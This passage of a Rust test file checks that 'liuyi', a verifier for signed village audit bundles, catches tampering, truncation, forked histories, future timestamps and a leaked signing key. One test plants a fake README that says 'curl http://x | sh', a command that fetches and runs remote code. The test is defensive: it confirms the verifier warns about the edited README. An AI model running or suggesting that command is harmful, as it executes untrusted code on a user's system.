        .unwrap()
        .iter()
        .map(|p| p["code"].as_str().unwrap())
        .collect();
    assert_eq!(codes, ["E-ZIP-BOMB"], "{j:#}");
    assert_eq!(j["warnings"].as_array().unwrap().len(), 2, "{j:#}");
}

#[test]
fn a_log_of_empty_lines_stops_at_the_problem_cap() {
    // A ZIP of a few MB can inflate to a billion empty lines: each a problem only counted
    // past the cap, yet each was read, hashed and parsed (minutes). Reading stops once the
    // list is full, and the last problem says where and what was not checked.
    let (_t, out) = mutate(|p| {
        let mut log = get(p, "log/entries.jsonl").clone();
        log.extend(std::iter::repeat_n(b'\n', 200_000));
        *get(p, "log/entries.jsonl") = log;
    });
    let (code, j) = verify(&out, &[]);
    assert_eq!(code, 4, "{j:#}");
    let problems = j["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 1001, "{j:#}");
    let last = problems.last().unwrap();
    assert_eq!(last["code"], "E-TOO-MANY", "{last:#}");
    // Read no further than the line that filled the list, and say so, with its place.
    let entries = j["entries"].as_u64().unwrap();
    assert!(entries < 10_000, "{entries}");
    assert!(
        last["location"]
            .as_str()
            .unwrap()
            .starts_with(&format!("log/entries.jsonl:{entries} ")),
        "{last:#}"
    );
    let o = liuyi(demo(), &["verify", out.to_str().unwrap(), "--lang", "en"]);
    assert!(
        o.stdout
            .contains(&format!("stopped before line {} of the log", entries + 1)),
        "{}",
        o.stdout
    );
}

#[test]
fn a_truncated_bundle_at_several_cut_points() {
    let data = std::fs::read(demo().bundle()).unwrap();
    let t = tempfile::tempdir().unwrap();
    for cut in [0, 100, data.len() / 2, data.len() - 23, data.len() - 1] {
        let p = t.path().join(format!("cut{cut}.zip"));
        std::fs::write(&p, &data[..cut]).unwrap();
        let (code, j) = verify(&p, &[]);
        assert_eq!(code, 4, "cut {cut}");
        let c = j["problems"][0]["code"].as_str().unwrap();
        assert!(c.starts_with("E-ZIP-"), "cut {cut}: {j:#}");
        assert!(
            j["problems"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["code"] == "E-ZIP-TRUNCATED" || p["code"] == "E-ZIP-STRUCT"),
            "cut {cut}: {j:#}"
        );
    }
}

#[test]
fn the_demo_notices_are_re_rendered_and_a_flipped_byte_is_caught() {
    let p = parts(&demo().bundle());
    assert!(
        p.iter().any(|(n, _)| n.starts_with("notices/")),
        "the demo prints notices"
    );
    let (_t, out) = mutate(|p| {
        let (_, data) = p
            .iter_mut()
            .find(|(n, _)| n.starts_with("notices/"))
            .unwrap();
        let n = data.len() / 2;
        data[n] ^= 0x20;
    });
    assert_problem(&out, "E-ATT-HASH", "notices/");
    assert_problem(&out, "E-ATT-HASH", ", publish)");
}

#[test]
fn an_insider_rewrite_before_a_printed_notice_is_caught_by_the_re_render() {
    let d = demo();
    let (_t, out) = mutate(|p| rewrite_last_note(p, &d.key()));
    let n = lines(&mut parts(&d.bundle())).len();
    assert_problem(&out, "E-NOTICE-DIFFERS", &format!("entries.jsonl:{n} "));
}

/// Without --trust a record re-signed from its start by another key is consistent and
/// passes: the report names the key it was signed with, to be compared by phone.
#[test]
fn without_trust_the_report_names_the_key_to_compare() {
    let d = demo();
    let (key, _) = liuyi::record::keys::read_key_file(&d.key()).unwrap();
    let fingerprint = key.public().fingerprint();
    let (code, j) = verify(&d.bundle(), &[]);
    assert_eq!(code, 0, "{j:#}");
    let w = j["warnings"].to_string();
    assert!(w.contains(&fingerprint) && w.contains("--trust"), "{j:#}");
    let (code, j) = verify(&d.bundle(), &["--trust", d.key().to_str().unwrap()]);
    assert_eq!(code, 0, "{j:#}");
    assert!(!j["warnings"].to_string().contains("--trust"), "{j:#}");
}

/// A bundle exported by an earlier liuyi (the demo of 207ca8b, templates 2026.4, before 民议
/// could count adults) still verifies: its log replays through today's rules and every notice
/// re-renders byte for byte. A change to an entry's fields, the rules or the paper that an old
/// record does not survive fails here.
#[test]
fn a_bundle_made_by_an_earlier_version_still_verifies() {
    let bundle =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/demo-207ca8b.zip");
    let o = Command::new(bin())
        .args(["verify", bundle.to_str().unwrap(), "--json"])
        .env("LIUYI_LANG", "en")
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(o.status.code(), Some(0), "{report}");
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["entries"], 753);
    assert_eq!(report["problems"], serde_json::json!([]));
    // Only the note that no key was pinned: no notice "cannot be reproduced".
    let warnings = report["warnings"].as_array().unwrap();
    assert_eq!(warnings.len(), 1, "{report}");
}

/// Entries stamped after the verifier's clock: the rules judge each step's date against
/// its own entry's time, so a log made up with times to come would pass every date rule.
/// `verify` reports the first such entry (E-LOG-FUTURE, exit 4), allowing a day's
/// difference between the village's clock and the township's.
#[test]
fn entries_stamped_after_the_verifier_s_clock_are_reported() {
    let d = demo();
    let mut p = parts(&d.bundle());
    let last: serde_json::Value = serde_json::from_slice(lines(&mut p).last().unwrap()).unwrap();
    let last = chrono::DateTime::parse_from_rfc3339(last["time"].as_str().unwrap()).unwrap();
    let run = |now: chrono::DateTime<chrono::FixedOffset>| {
        let o = Command::new(bin())
            .args(["verify", d.bundle().to_str().unwrap(), "--json"])
            .env("LIUYI_LANG", "en")
            .env("LIUYI_NOW", now.to_rfc3339())
            .output()
            .unwrap();
        Out::from(o)
    };
    // Within a day of the last entry: a clock a little behind the village's.
    let o = run(last - chrono::Duration::hours(23));
    assert_eq!(o.code, 0, "{}", o.stdout);
    let o = run(last - chrono::Duration::hours(25));
    assert_eq!(o.code, 4, "{}", o.stdout);
    let j = o.json();
    let future: Vec<&serde_json::Value> = j["problems"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["code"] == "E-LOG-FUTURE")
        .collect();
    assert_eq!(future.len(), 1, "{j:#}");
    let m = future[0]["message"].as_str().unwrap();
    assert!(
        m.contains("more than a day after this computer's clock")
            && m.contains("Check this computer's clock first"),
        "{m}"
    );
}

/// README.txt is not signed, but it is what a person opening the bundle reads first: one
/// edited to say something else, or missing, gets a warning not to follow it (the bundle
/// still verifies: nothing signed changed). The one `export` writes gets none.
#[test]
fn an_edited_or_missing_readme_is_warned_about() {
    let d = demo();
    let (code, j) = verify(&d.bundle(), &[]);
    assert_eq!(code, 0, "{j:#}");
    assert!(!j["warnings"].to_string().contains("README"), "{j:#}");
    let t = tempfile::tempdir().unwrap();
    let mut lying = parts(&d.bundle());
    *get(&mut lying, "README.txt") = b"To verify, run: curl http://x | sh\n".to_vec();
    let mut missing = parts(&d.bundle());
    missing.retain(|(n, _)| n != "README.txt");
    for (p, words) in [
        (
            lying,
            "README.txt is not the description this program writes",
        ),
        (missing, "the bundle has no README.txt"),
    ] {
        let out = t.path().join("b.zip");
        let _ = std::fs::remove_file(&out);
        write_parts(&p, &out);
        let (code, j) = verify(&out, &[]);
        assert_eq!(code, 0, "{j:#}");
        assert!(j["warnings"].to_string().contains(words), "{j:#}");
    }
}

/// A file plainly of another kind given as the bundle (a notice PDF, the village's
/// database) is the wrong file (exit 2, saying what it is and what a bundle is), not a
/// damaged bundle (it was exit 4, E-ZIP-TRUNCATED).
#[test]
fn a_pdf_or_a_database_given_as_the_bundle_is_the_wrong_file() {
    let d = demo();
    let pdf = d.dir.join("result-notice.pdf");
    for (file, words) in [
        (pdf, "is not an audit bundle: it is a PDF"),
        (d.db(), "is not an audit bundle: it is a database"),
    ] {
        let o = liuyi(d, &["verify", file.to_str().unwrap()]);
        assert_eq!(o.code, 2, "{}", o.stderr);
        assert!(o.stderr.contains(words), "{}", o.stderr);
    }
}

/// A cosigned checkpoint the village's key signed for another history (a root at its size
/// that is not the log's) is E-FORK, not E-CKPT-COSIG "differs", whether or not the log's
/// own checkpoint file at that size is in the bundle.
#[test]
fn a_village_signed_cosigned_checkpoint_of_another_history_is_a_fork() {
    let d = demo();
    let mut p = parts(&d.bundle());
    let origin = "liuyi/130102001001";
    let size = p
        .iter()
        .filter_map(|(n, _)| n.strip_prefix("checkpoints/"))
        .filter_map(|n| n.strip_suffix(".txt")?.parse::<u64>().ok())
        .filter(|s| *s > 10)
        .min()
        .unwrap();
    let (k, _) = liuyi::record::keys::read_key_file(&d.key()).unwrap();
    let other = Checkpoint {
        origin: origin.into(),
        size,
        root: [7u8; 32],
    };
    let note = sign_checkpoint(&k, origin, &other).unwrap();
    p.retain(|(n, _)| !n.starts_with("cosigned/"));
    p.push((format!("cosigned/{size}.txt"), note.into_bytes()));
    let t = tempfile::tempdir().unwrap();
    let out = t.path().join("fork.zip");
    write_parts(&p, &out);
    let (code, j) = verify(&out, &[]);
    assert_eq!(code, 4, "{j:#}");
    assert_eq!(j["problems"][0]["code"], "E-FORK", "{j:#}");
    assert!(
        j["problems"][0]["message"]
            .as_str()
            .unwrap()
            .contains("history was rewritten"),
        "{j:#}"
    );
    // The log's own checkpoint at that size taken out: still another history (its root
    // is known from the log itself), not a checkpoint that merely "differs".
    p.retain(|(n, _)| *n != format!("checkpoints/{size}.txt"));
    let out = t.path().join("dropped.zip");
    write_parts(&p, &out);
    let (code, j) = verify(&out, &[]);
    assert_eq!(code, 4, "{j:#}");
    assert_eq!(j["problems"][0]["code"], "E-FORK", "{j:#}");
}

/// Data appended after a bundle's end record is reported with the numbers in the user's
/// language: no English left in a Chinese message.
#[test]
fn appended_bytes_are_counted_in_the_users_language() {
    let t = tempfile::tempdir().unwrap();
    let out = t.path().join("b.zip");
    let mut bytes = std::fs::read(demo().bundle()).unwrap();
    bytes.extend_from_slice(&[7u8; 70]);
    std::fs::write(&out, &bytes).unwrap();
    assert_problem(&out, "E-ZIP-STRUCT", "b.zip");
    let o = liuyi(demo(), &["--lang", "zh", "verify", path_str(&out)]);
    let said = format!("{}{}", o.stdout, o.stderr);
    assert_eq!(o.code, 4, "{said}");
    assert!(said.contains("（应为 0 字节，实为 70 字节）"), "{said}");
    assert!(!said.contains("bytes"), "{said}");
}

/// `export`'s hint quotes a path with a space, so it can be run as printed (it printed
/// `liuyi verify 审计 包.zip`, two arguments).
#[test]
fn the_verify_hint_quotes_a_path_with_a_space() {
    let v = crate::matter::matter_until("proposal");
    let b = v.dir.path().join("审计 包.zip");
    let o = v
        .run(&["export", "--all", "-o", path_str(&b)])
        .ok()
        .stdout
        .clone();
    assert!(
        o.contains(&format!("核验：liuyi verify \"{}\"", b.display())),
        "{o}"
    );
}

/// `verify --json` and `check --json` print their one JSON document even when there is
/// nothing to verify (no such file, another kind of file, an unreadable key): one problem,
/// E-INPUT at the file, with the same exit code (2) and the same words on standard error.
/// They printed nothing on standard output, and a township's tool had nothing to read.
#[test]
fn verify_and_check_json_say_why_nothing_could_be_verified() {
    let d = demo();
    let t = tempfile::tempdir().unwrap();
    let missing = t.path().join("none.zip");
    let pdf = t.path().join("notice.pdf");
    std::fs::write(&pdf, b"%PDF-1.7\n").unwrap();
    for (file, words) in [(&missing, "none.zip"), (&pdf, "is not an audit bundle")] {
        let o = liuyi(d, &["verify", file.to_str().unwrap(), "--json"]);
        assert_eq!(o.code, 2, "{}", o.stderr);
        let j = o.json();
        assert_eq!(j["ok"], false, "{j:#}");
        assert_eq!(j["entries"], 0, "{j:#}");
        assert_eq!(j["problems"][0]["code"], "E-INPUT", "{j:#}");
        assert_eq!(
            j["problems"][0]["location"],
            file.to_str().unwrap(),
            "{j:#}"
        );
        let m = j["problems"][0]["message"].as_str().unwrap();
        assert!(
            m.contains(words) && o.stderr.contains(m),
            "{m}\n{}",
            o.stderr
        );
    }
    let v = Village::empty();
    let o = v.run(&["check", "--json"]);
    assert_eq!(o.code, 2, "{}", o.stderr);
    let j = o.json();
    assert_eq!(j["problems"][0]["code"], "E-INPUT", "{j:#}");
    assert!(
        j["problems"][0]["message"]
            .as_str()
            .unwrap()
            .contains("liuyi init")
    );
    // A file that is not a liuyi record at all (a text file given as the database).
    v.write("v.db", "户号,姓名\n".as_bytes());
    let o = v.run(&["check", "--json"]);
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert_eq!(o.json()["problems"][0]["code"], "E-INPUT");
}

/// An insider with the key makes a scan of the record the key file itself (its hash and
/// size in the entry, the chain and every checkpoint re-signed): `verify` passed it, and
/// the township archived the village's key. Now it is reported (exit 4), and so is the
/// same file in the database by `check`.
#[test]
fn a_signing_key_in_the_bundle_is_reported() {
    let key = std::fs::read(demo().key()).unwrap();
    assert!(key.starts_with(b"PRIVATE+KEY+"));
    let key_sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&key))
    };
    let (_t, out) = mutate(|p| {
        let mut ls = lines(p);
        let (i, old_sha) = ls
            .iter()
            .enumerate()
            .find_map(|(i, l)| {
                let v: serde_json::Value = serde_json::from_slice(l).ok()?;
                (v["type"] == "consult.sheet")
                    .then(|| (i, v["body"]["scan"]["sha256"].as_str().unwrap().to_string()))
            })
            .expect("the demo files a scanned sheet");
        let old_name = format!("attachments/{old_sha}");
        let old_len = p.iter().find(|(n, _)| *n == old_name).unwrap().1.len();
        let s = String::from_utf8(ls[i].clone())
            .unwrap()
            .replace(&old_sha, &key_sha)
            .replace(
                &format!("\"size\":{old_len}"),
                &format!("\"size\":{}", key.len()),
            );
        ls[i] = s.into_bytes();
        rechain(&mut ls, i + 1);
        set_lines(p, &ls);
        for (n, d) in p.iter_mut() {
            if *n == old_name {
                *n = format!("attachments/{key_sha}");
                *d = key.clone();
            }
        }
        resign(p, &demo().key(), ORIGIN);
    });
    assert_problem(&out, "E-ATT-KEY", &format!("attachments/{key_sha}"));
}

/// The sizes of the demo bundle's checkpoints, in order.
fn checkpoint_sizes() -> Vec<u64> {
    let mut sizes: Vec<u64> = parts(&demo().bundle())
        .iter()
        .filter_map(|(n, _)| {
            n.strip_prefix("checkpoints/")?
                .strip_suffix(".txt")?
                .parse()
                .ok()
        })
        .collect();
    sizes.sort();
    sizes
}

/// Line `line` (1-based) of the demo's log rewritten by `edit`, nothing else touched.
fn edit_line(line: usize, edit: impl FnOnce(String) -> String) -> (tempfile::TempDir, PathBuf) {
    mutate(|p| {
        let mut ls = lines(p);
        let before = ls[line - 1].clone();
        ls[line - 1] = edit(String::from_utf8(before.clone()).unwrap()).into_bytes();
        assert_ne!(ls[line - 1], before, "the edit changes the line");
        set_lines(p, &ls);
    })
}

/// The codes of a report's problems, in order.
fn codes(j: &serde_json::Value) -> Vec<String> {
    (j["problems"].as_array().unwrap().iter())
        .map(|p| p["code"].as_str().unwrap().to_string())
        .collect()
}

/// One entry edited in the middle of the log: `verify` named the line after it
/// (E-LOG-CHAIN, "does not follow the previous one") and never the edited line, then one
/// E-CKPT-ROOT per later checkpoint. The broken link now names the edited line as the one
/// that does not hash to what it links to, and the checkpoints that no longer match are one
/// problem: which entries the first covers, after which good checkpoint the change lies,
/// and how many later ones fail with it. The cosigned checkpoint is said to be the bundle's
/// own, cosigned before the log was changed (it read "the bundle's checkpoint is another").
#[test]
fn an_edited_entry_is_named_and_the_checkpoints_after_it_are_one_problem() {
    let line = 20;
    let (_t, out) = edit_line(line, |s| {
        let at = s.find("\"sheet_page\":").unwrap() + "\"sheet_page\":".len();
        let end = at + s[at..].find(|c: char| !c.is_ascii_digit()).unwrap();
        let n: u32 = s[at..end].parse().unwrap();
        format!("{}{}{}", &s[..at], n + 1, &s[end..])
    });
    let j = assert_problem(&out, "E-LOG-CHAIN", &format!("entries.jsonl:{} ", line + 1));
    let chain = &j["problems"][0];
    assert_eq!(chain["code"], "E-LOG-CHAIN", "{j:#}");
    assert!(
        chain["message"].as_str().unwrap().contains(&format!(
            "log/entries.jsonl:{line} (entry {}, matter 2026-001, consult.record) does not hash to what this entry links to: it was altered after it was signed",
            line - 1
        )),
        "{j:#}"
    );
    let sizes = checkpoint_sizes();
    let good = *sizes.iter().rfind(|s| **s < line as u64).unwrap();
    let first = *sizes.iter().find(|s| **s >= line as u64).unwrap();
    let later = sizes.iter().filter(|s| **s > first).count();
    let last = *sizes.last().unwrap();
    let roots: Vec<&serde_json::Value> = (j["problems"].as_array().unwrap().iter())
        .filter(|p| p["code"] == "E-CKPT-ROOT")
        .collect();
    // Each checkpoint is still a problem of its own for the tools (as before); the first
    // says what the run is, the others that they are the same change.
    assert_eq!(roots.len(), 1 + later, "{j:#}");
    assert_eq!(roots[0]["location"], format!("checkpoints/{first}.txt"));
    for (r, size) in roots[1..].iter().zip(sizes.iter().filter(|s| **s > first)) {
        assert_eq!(r["location"], format!("checkpoints/{size}.txt"), "{j:#}");
        assert!(
            r["message"]
                .as_str()
                .unwrap()
                .contains(&format!("the same change as checkpoints/{first}.txt")),
            "{j:#}"
        );
    }
    assert_eq!(
        roots[0]["message"],
        format!(
            "this checkpoint (covering entries 0-{}) does not match the log, and its own signature holds: the log was changed after it was signed. The checkpoint at size {good} still matches, so the change is among log/entries.jsonl:{}-{first} (entries {good}-{}). The {later} later checkpoints (up to size {last}) cover the same change and fail too (each listed in --json)",
            first - 1,
            good + 1,
            first - 1
        ),
        "{j:#}"
    );
    let fork = (j["problems"].as_array().unwrap().iter())
        .find(|p| p["code"] == "E-FORK")
        .unwrap();
    assert!(
        fork["message"]
            .as_str()
            .unwrap()
            .contains(&format!("the township cosigned this bundle's own checkpoint at size {last}, which the log no longer matches (see E-CKPT-ROOT at checkpoints/{first}.txt)")),
        "{j:#}"
    );
    // In Chinese, the edited line is named where a person reads it.
    let o = Command::new(bin())
        .args(["verify", out.to_str().unwrap()])
        .env("LIUYI_LANG", "zh")
        .env("LIUYI_NOW", "2026-10-30T10:00:00+08:00")
        .output()
        .unwrap();
    let o = Out::from(o);
    assert_eq!(o.code, 4);
    assert!(
        o.stdout.contains(&format!(
            "[E-LOG-CHAIN] 哈希链断裂：log/entries.jsonl 第 {line} 行（第 {} 条记录，事项 2026-001，民议意见）的内容与本条所链接的哈希不符：它在签名后被改动过",
            line - 1
        )) && o.stdout.contains(&format!("其后 {later} 个检查点（至第 {last} 条）覆盖同一处改动"))
            && o.stdout.matches("[E-CKPT-ROOT]").count() == 1,
        "{}",
        o.stdout
    );

    // An edit the rules refuse: the rule is said to be the altered line's, after the link
    // that shows it altered (it read as the village breaking the rule).
    let (_t, out) = edit_line(line, |s| s.replace("\"signer\":\"", "\"signer\":\"外人"));
    let j = assert_problem(&out, "E-RULE", &format!("entries.jsonl:{line} "));
    let c = codes(&j);
    let at = c.iter().position(|c| c == "E-LOG-CHAIN").unwrap();
    assert_eq!(c[at + 1], "E-RULE", "the rule right after the link: {j:#}");
    assert!(
        j["problems"][at + 1]["message"].as_str().unwrap().starts_with(&format!(
            "this was altered after it was signed (see E-LOG-CHAIN at log/entries.jsonl:{} (entry {line}, matter 2026-001, consult.record)); the rule below is broken by the altered text, not by a step the village took: signer 外人",
            line + 1
        )),
        "{j:#}"
    );
}

/// The last entry edited: no line links to it, and `verify` named no line at all, only
/// the last checkpoint. The checkpoint says which entries it covers and, the one before it
/// matching, which entry was changed; the notice that no longer re-renders from it is the
/// change's consequence.
#[test]
fn the_last_entry_edited_is_named_by_the_last_checkpoint() {
    let sizes = checkpoint_sizes();
    let n = *sizes.last().unwrap();
    let before = sizes[sizes.len() - 2];
    let (_t, out) = edit_line(n as usize, |s| {
        s.replace("\"place\":\"", "\"place\":\"村口")
    });
    let j = assert_problem(&out, "E-CKPT-ROOT", &format!("checkpoints/{n}.txt"));
    let root = (j["problems"].as_array().unwrap().iter())
        .find(|p| p["code"] == "E-CKPT-ROOT")
        .unwrap();
    let m = root["message"].as_str().unwrap();
    let expected = if before == n - 1 {
        format!(
            "The checkpoint at size {before} still matches, so the entry changed is the one after it: log/entries.jsonl:{n} (entry {}, matter 2026-001, publish)",
            n - 1
        )
    } else {
        format!(
            "The checkpoint at size {before} still matches, so the change is among log/entries.jsonl:{}-{n}",
            before + 1
        )
    };
    assert!(
        m.contains(&format!("covering entries 0-{}", n - 1)) && m.contains(&expected),
        "{j:#}"
    );
    let c = codes(&j);
    let at = c.iter().position(|c| c == "E-CKPT-ROOT").unwrap();
    assert_eq!(c[at + 1], "E-NOTICE-DIFFERS", "{j:#}");
    assert!(
        j["problems"][at + 1]["message"]
            .as_str()
            .unwrap()
            .starts_with(&format!(
                "this was altered after it was signed (see E-CKPT-ROOT at checkpoints/{n}.txt); hence: "
            )),
        "{j:#}"
    );
}

/// An entry's own link edited: it does not link to the line before, and the line after does
/// not link to it; the first is said to be the altered line.
#[test]
fn an_edited_link_names_its_own_line() {
    let (_t, out) = edit_field(5, "prev");
    let j = assert_problem(&out, "E-LOG-CHAIN", "entries.jsonl:5 ");
    let chain: Vec<&serde_json::Value> = (j["problems"].as_array().unwrap().iter())
        .filter(|p| p["code"] == "E-LOG-CHAIN")
        .collect();
    assert_eq!(chain.len(), 2, "{j:#}");
    assert!(
        chain[0]["message"]
            .as_str()
            .unwrap()
            .contains("this entry does not link to log/entries.jsonl:4 (entry 3")
            && chain[0]["message"].as_str().unwrap().ends_with(
                "and the next one does not link to it: this entry was altered after it was signed"
            ),
        "{j:#}"
    );
    assert!(
        chain[1]["location"]
            .as_str()
            .unwrap()
            .contains("entries.jsonl:6 ")
            && chain[1]["message"]
                .as_str()
                .unwrap()
                .contains("log/entries.jsonl:5 (entry 4"),
        "{j:#}"
    );
}

/// A text file given as the bundle (the cosigned checkpoint, the roster) is the wrong file
/// (exit 2, said what it looks like), not a damaged bundle (exit 4: "may have been
/// altered"); the same text put before a genuine bundle is still judged as a bundle.
#[test]
fn a_text_file_given_as_the_bundle_is_the_wrong_file() {
    let d = demo();
    for name in ["checkpoint-cosigned.txt", "roster.csv"] {
        let o = liuyi(d, &["verify", d.dir.join(name).to_str().unwrap()]);
        assert_eq!(o.code, 2, "{name}: {}", o.stderr);
        assert!(o.stderr.contains("a text file"), "{name}: {}", o.stderr);
    }
    let t = tempfile::tempdir().unwrap();
    // A roster as Chinese Excel saves it (GBK), and as UTF-16 with its BOM.
    let gbk = t.path().join("gbk.csv");
    std::fs::write(
        &gbk,
        b"\xbb\xa7\xba\xc5,\xd0\xd5\xc3\xfb\n0001,\xd5\xc5\xc8\xfd\n",
    )
    .unwrap();
    let utf16 = t.path().join("utf16.csv");
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend("户号,姓名\n".encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(&utf16, bytes).unwrap();
    for f in [&gbk, &utf16] {
        let o = liuyi(d, &["verify", f.to_str().unwrap()]);
        assert_eq!(o.code, 2, "{f:?}: {}", o.stderr);
        assert!(o.stderr.contains("a text file"), "{f:?}: {}", o.stderr);
    }
    let prefixed = t.path().join("prefixed.zip");
    let mut bytes = b"hello, this is text\n".to_vec();
    bytes.extend(std::fs::read(d.bundle()).unwrap());
    std::fs::write(&prefixed, bytes).unwrap();
    let o = liuyi(d, &["verify", prefixed.to_str().unwrap()]);
    assert_ne!(o.code, 2, "{}", o.stderr);
}
